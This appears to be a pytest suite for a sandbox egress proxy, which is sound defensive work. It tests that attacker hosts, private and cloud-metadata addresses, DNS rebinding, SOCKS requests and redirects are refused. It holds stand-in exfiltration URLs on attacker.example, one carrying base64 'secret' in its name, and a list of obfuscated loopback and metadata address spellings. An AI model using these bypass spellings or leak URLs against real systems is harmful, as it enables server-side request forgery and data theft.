"""Sandboxes against their policy: by names that lead elsewhere, addresses, redirects, and other spellings of both."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from security.egress_world import ELSEWHERE, METADATA, PRIVATE, PUBLIC, World, open_world, read_head, say_hello

if TYPE_CHECKING:
    import socket
    from collections.abc import Iterator

pytestmark = pytest.mark.root


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, images_dir: str, python_image: object) -> Iterator[World]:
    del python_image
    with open_world(tmp_path_factory.mktemp("world"), images_dir) as world:
        world.names |= {
            "good.example": [(PUBLIC,)],
            "inside.example": [(PRIVATE,)],
            "cloud.example": [(METADATA,)],
            "both.example": [(PRIVATE, PUBLIC)],
            "loop.example": [("127.0.0.1",)],
            "exact.example": [(PRIVATE,)],
        }
        with (
            world.serve(say_hello),
            world.serve(say_hello, PRIVATE),
            world.serve(say_hello, METADATA),
            world.serve(say_hello, "127.0.0.1"),
        ):
            yield world


def test_nothing_is_reached_or_looked_up_without_egress(world: World) -> None:
    sandbox = world.create("none")
    world.looked_up.clear()

    for url in ("http://good.example/", f"http://{PUBLIC}/", "http://secret-data.attacker.example/"):
        status, text = world.get(sandbox, url)
        assert status == 403
        assert "its egress is none" in text

    # In the first line too: npm, uv and urllib show nothing else.
    said = world.say(sandbox, b"GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n")
    assert b"its egress is none" in said.partition(b"\r\n")[0]
    assert world.looked_up == []
    assert [row["verdict"] for row in world.records(sandbox)] == ["refused"] * 3


def test_names_that_no_rule_names_are_not_looked_up(world: World) -> None:
    """A name can carry data: the query alone would leak it."""
    sandbox = world.create("rules", "good.example")
    world.looked_up.clear()

    assert world.get(sandbox, "http://good.example/x")[0] == 200
    assert world.get(sandbox, "http://c2VjcmV0.attacker.example/")[0] == 403

    assert world.looked_up == ["good.example"]


@pytest.mark.parametrize("name", ["inside.example", "cloud.example", "loop.example"])
@pytest.mark.parametrize(("mode", "rules"), [("open", ()), ("rules", ("*.example",))])
def test_no_name_leads_to_an_address_that_is_not_public(
    world: World, name: str, mode: str, rules: tuple[str, ...]
) -> None:
    sandbox = world.create(mode, *rules)

    status, text = world.get(sandbox, f"http://{name}/")

    assert status == 403
    assert "not public" in text
    assert all(address not in text for address in (PRIVATE, METADATA, "127.0.0.1"))


def test_of_several_addresses_only_those_that_may_be_are_connected_to(world: World) -> None:
    sandbox = world.create("open")

    assert world.get(sandbox, "http://both.example/")[0] == 200

    assert world.records(sandbox)[0]["address"] == PUBLIC


def test_what_a_rule_names_is_reached_also_where_it_is_private(world: World) -> None:
    assert world.get(world.create("rules", "exact.example"), "http://exact.example/")[0] == 200
    assert world.get(world.create("rules", "10.0.0.0/8"), "http://inside.example/")[0] == 200
    assert world.get(world.create("rules", PRIVATE), f"http://{PRIVATE}/")[0] == 200


def test_a_name_that_changes_its_mind_is_asked_once_for_each_connection(world: World) -> None:
    """Rebinding: public when it is checked and private when it is connected to. Here that is one and the same."""
    sandbox = world.create("open")
    world.names["fickle.example"] = [(PUBLIC,), (METADATA,), (PUBLIC,), ("127.0.0.1",), (PRIVATE,)]

    found = [world.get(sandbox, "http://fickle.example/")[0] for _ in range(5)]

    assert found == [200, 403, 200, 403, 403]
    assert {row.get("address") for row in world.records(sandbox)} == {PUBLIC, None}


def test_a_connection_that_is_kept_goes_where_it_went_whatever_the_name_says_by_then(world: World) -> None:
    sandbox = world.create("open")
    world.names["turning.example"] = [(PUBLIC,), (METADATA,)]
    ask = b"GET http://turning.example/ HTTP/1.1\r\nHost: turning.example\r\n\r\n"

    said = world.say(sandbox, ask + ask + ask.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n"))

    assert said.count(b"HTTP/1.1 200 OK") == 3
    (row,) = world.records(sandbox)
    assert (row["address"], row["requests"]) == (PUBLIC, 3)


@pytest.mark.parametrize(
    "spelled",
    [
        *("127.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.0.0.1.", "[::1]", "[::ffff:127.0.0.1]"),
        *(
            "[::ffff:10.1.2.3]",
            "0",
            "0.0.0.0",
            "169.254.169.254",
            "[fe80::1%25lo]",
            "[64:ff9b::7f00:1]",
            "[2002:7f00:1::]",
        ),
        *("localhost", "LOCALHOST.", "[::127.0.0.1]", "100.64.0.1", "224.0.0.1", "255.255.255.255", "[ff02::1]"),
    ],
)
def test_no_spelling_of_an_address_reaches_what_is_not_public(world: World, spelled: str) -> None:
    sandbox = world.create("open")
    world.names["localhost"] = [("127.0.0.1",)]
    try:
        status, _ = world.get(sandbox, f"http://{spelled}/")
        tunnelled = world.say(sandbox, f"CONNECT {spelled}:80 HTTP/1.1\r\nHost: {spelled}:80\r\n\r\n".encode())

        assert status in {400, 403}
        assert tunnelled[9:12] in {b"400", b"403"}
        assert not [row for row in world.records(sandbox) if row["verdict"] == "allowed"]
    finally:
        world.delete(sandbox)


def test_rules_of_hosts_are_not_for_addresses(world: World) -> None:
    """Access to a host gives no access to other hosts at its address."""
    sandbox = world.create("rules", "good.example", "*.example")

    assert world.get(sandbox, f"http://{PUBLIC}/")[0] == 403
    socks = world.say(sandbox, b"\x05\x01\x00" + b"\x05\x01\x00\x01" + bytes(map(int, PUBLIC.split("."))) + b"\0\x50")
    assert socks[:4] == b"\x05\x00\x05\x02"


def test_a_redirect_is_one_more_request(world: World) -> None:
    def lead_away(connection: socket.socket) -> None:
        read_head(connection)
        connection.sendall(
            f"HTTP/1.1 302 Found\r\nLocation: http://{METADATA}/latest\r\nContent-Length: 0\r\n\r\n".encode()
        )

    sandbox = world.create("open")
    world.names["away.example"] = [(ELSEWHERE,)]
    with world.serve(lead_away, ELSEWHERE):
        code, said = world.shell(sandbox, "curl -sS -L -i http://away.example/")

    assert code == 0, said
    assert "302 Found" in said
    assert "403" in said
    assert "latest" not in said.partition("403")[2]
    assert [row["verdict"] for row in world.records(sandbox)] == ["allowed", "refused"]


def test_what_is_not_there_is_said_in_a_sentence(world: World) -> None:
    sandbox = world.create("open")
    world.names["closed.example"] = [(ELSEWHERE,)]

    unknown, said = world.get(sandbox, "http://unknown.example/")
    assert (unknown, "cannot be found" in said) == (502, True)
    closed, said = world.get(sandbox, "http://closed.example/")
    assert (closed, "refused" in said) == (502, True)
    assert [row["outcome"] for row in world.records(sandbox)] == ["unreachable"] * 2
